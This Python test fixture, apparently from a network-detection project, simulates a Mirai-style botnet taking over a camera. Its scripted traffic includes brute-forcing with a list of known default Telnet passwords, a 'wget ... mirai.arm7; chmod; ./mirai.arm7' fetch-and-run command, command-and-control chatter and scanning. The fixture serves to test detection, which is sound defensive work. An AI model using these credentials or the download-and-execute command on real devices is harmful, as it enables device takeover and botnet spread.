"""A camera taken by a botnet: Telnet passwords tried, a program fetched, orders taken, others looked for."""

from __future__ import annotations

from sentinel.demo.cast import CAMERA
from tests.craft.plant import (
    COLLEAGUE,
    CONTROL,
    MINUTE,
    OUTSIDE,
    SECOND,
    Actor,
    Plant,
    Scene,
    sweep,
    telnet,
    web,
)  # fmt: skip

SECOND_CAMERA = Actor("camera-2", "10.20.3.51", "44:19:b6:12:9c:51")
THIRD_CAMERA = Actor("camera-3", "10.20.3.52", "44:19:b6:12:9c:52")
PAIRS = (("root", "xc3511"), ("root", "vizxv"), ("root", "888888"), ("admin", "admin"), ("root", "default"),
         ("support", "support"), ("root", "123456"))  # fmt: skip


def play(wire: Plant) -> None:
    """An hour; people look at the camera's page now and then."""
    for n, camera in enumerate((CAMERA, SECOND_CAMERA)):
        for minute in range(3, 60, 20):
            web(wire, (minute + n) * MINUTE, COLLEAGUE, camera, "/doc/page/preview.asp", product="App-webs/")
    at = 20 * MINUTE
    for camera in (THIRD_CAMERA, SECOND_CAMERA, CAMERA):
        for n, (user, password) in enumerate(PAIRS):
            telnet(wire, at + n * 3 * SECOND, OUTSIDE, camera, user, password, right=False)
        at += 30 * SECOND
    shell = telnet(wire, at, OUTSIDE, CAMERA, "root", "xc3511", right=True)
    shell.client(b"enable\r\n").server(b"# ").client(b"/bin/busybox ECCHI\r\n").server(
        b"ECCHI: applet not found\r\n# "
    )
    shell.client(
        b"wget http://185.220.101.47/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7\r\n"
    ).server(b"# ")
    web(wire, shell.now + SECOND, CAMERA, CONTROL, "/bins/mirai.arm7", agent="Wget", body=b"\x7fELF" + bytes(1200),
        kind="application/octet-stream")  # fmt: skip
    orders = wire.tcp(shell.now + 10 * SECOND, CAMERA, CONTROL, 23_231)
    for n in range(10):
        orders.wait(at + (30 + n * 60) * SECOND)
        orders.client(b"\0\0").server(b"\0\0")
    shell.wait(shell.now + 30 * SECOND).close()
    sweep(wire, at + 3 * MINUTE, CAMERA, "10.20.3", 23)
    sweep(wire, at + 4 * MINUTE, CAMERA, "91.200.12", 23, 100)
    orders.close()


SCENE = Scene(
    play,
    attackers=(OUTSIDE, CAMERA),
    victims=(SECOND_CAMERA, THIRD_CAMERA, CONTROL),
    tactics=(
        "credential-access|lateral-movement|initial-access",
        "lateral-movement|command-and-control",
        "discovery|reconnaissance",
    ),
)
